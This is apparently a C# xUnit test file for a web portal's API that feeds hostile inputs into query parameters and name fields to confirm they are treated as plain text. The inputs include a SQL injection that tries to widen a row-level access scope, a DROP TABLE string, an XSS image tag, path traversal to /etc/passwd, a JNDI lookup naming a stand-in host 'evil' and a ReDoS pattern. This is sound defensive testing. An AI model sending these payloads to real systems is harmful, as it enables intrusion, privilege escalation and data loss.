using System.Net.Http.Json;
using System.Text.Json;
using Portal.Features.Audit;
using Portal.Features.Notifications;
using Portal.Features.Organizations;
using Portal.Features.PhoneNumbers.Inventory;
using Portal.Features.Users;
using Portal.Tests.Architecture;
using Portal.Tests.Platform.Access;

namespace Portal.Tests.Hostile;

/// <summary>Texts that mean something to SQL, LIKE, regular expressions, HTML or URLs are texts and nothing more, wherever a text may stand.</summary>
public sealed class TextTests(MatrixWorld world) : IClassFixture<MatrixWorld>
{
    private const string Injection = "'; select set_config('app.scope','platform',false);--";

    private static readonly string[] s_texts =
        [Injection, "%_%", "\\", "%' OR '1'='1", "(a+)+$", "<img src=x onerror=alert(1)>", "../../etc/passwd", "${jndi:ldap://evil}", "\u202Egnp", "\uFFFF", "e\u0301", "'", "a\tb", new string('a', 4000)];

    public static TheoryData<string, string> Questions
    {
        get
        {
            var data = new TheoryData<string, string>();
            var document = JsonDocument.Parse(File.ReadAllText(Path.Combine(SourceTree.Root, "docs/openapi.json"))).RootElement;
            foreach (var path in document.GetProperty("paths").EnumerateObject())
            {
                if (!path.Value.TryGetProperty("get", out var get) || !get.TryGetProperty("parameters", out var parameters)) continue;
                foreach (var parameter in parameters.EnumerateArray().Where(one => one.GetProperty("in").GetString() is "query")) data.Add(path.Name, parameter.GetProperty("name").GetString()!);
            }

            return data;
        }
    }

    [Theory, MemberData(nameof(Questions))]
    public async Task A_question_is_answered_or_refused(string path, string parameter)
    {
        var about = path.Contains("{id}", StringComparison.Ordinal) ? path.Replace("{id}", await world.NewConversationAsync(world.A), StringComparison.Ordinal) : path;
        foreach (var encoded in s_texts.Select(Uri.EscapeDataString).Concat(["%00", "%ff%fe", "%ED%A0%80", "", "&", "1&" + parameter + "=2"]))
        {
            using var answer = await world.AdminHttp.GetAsync($"{about.Replace("{orgId}", world.A.Id.ToString(), StringComparison.Ordinal)}?{parameter}={encoded}");
            Assert.True((int)answer.StatusCode is 200 or 400 or 422, $"{parameter}={encoded} → {(int)answer.StatusCode}");
            var text = await answer.Content.ReadAsStringAsync();
            Assert.DoesNotContain("Npgsql", text, StringComparison.OrdinalIgnoreCase);
            if (parameter is "search" && encoded == Uri.EscapeDataString("%_%")) Assert.True(IsEmpty(path, text), text);
        }
    }

    /// <summary>Whether an answer holds no row: a file then has its header alone.</summary>
    private static bool IsEmpty(string path, string text) => path.EndsWith("/csv", StringComparison.Ordinal)
        ? text.TrimEnd().Split('\n').Length == 1
        : text.Contains("\"items\":[]", StringComparison.Ordinal);

    [Theory]
    [InlineData(Injection)]
    [InlineData("%_%")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("Robert\\'); DROP TABLE organizations;--")]
    public async Task A_name_is_kept_and_found_letter_by_letter(string name)
    {
        var made = await (await world.AdminHttp.PostAsJsonAsync("/api/admin/organizations", new { name })).Content.ReadFromJsonAsync<OrganizationRow>();
        Assert.Equal(name, made!.Name);
        var found = await world.AdminHttp.GetFromJsonAsync<JsonElement>($"/api/admin/organizations?search={Uri.EscapeDataString(name)}");
        Assert.Equal(made.Id, Assert.Single(found.GetProperty("items").EnumerateArray()).GetProperty("id").GetGuid());
        var key = await (await world.AdminHttp.PostAsJsonAsync("/api/admin/api-keys", new { name })).Content.ReadFromJsonAsync<JsonElement>();
        Assert.Equal(name, key.GetProperty("name").GetString());
    }

    [Fact]
    public async Task A_search_of_a_megabyte_is_cut()
    {
        var text = string.Concat(Enumerable.Repeat("%_a(", 256 * 1024));
        Assert.Empty((await world.RunAsync(world.Admin, new ListOrganizations(text))).Items);
        Assert.Empty((await world.RunAsync(world.Admin, new ListUsers(text))).Items);
        Assert.Empty((await world.RunAsync(world.Admin, new ListPhoneNumbers(Search: text))).Items);
        Assert.Empty((await world.RunAsync(world.Admin, new ListNotifications(new NotificationFilter(Search: text)))).Items);
        Assert.Empty((await world.RunAsync(world.Admin, new ListAuditEntries(new AuditFilter(text, null, text, text)))).Items);
    }
}
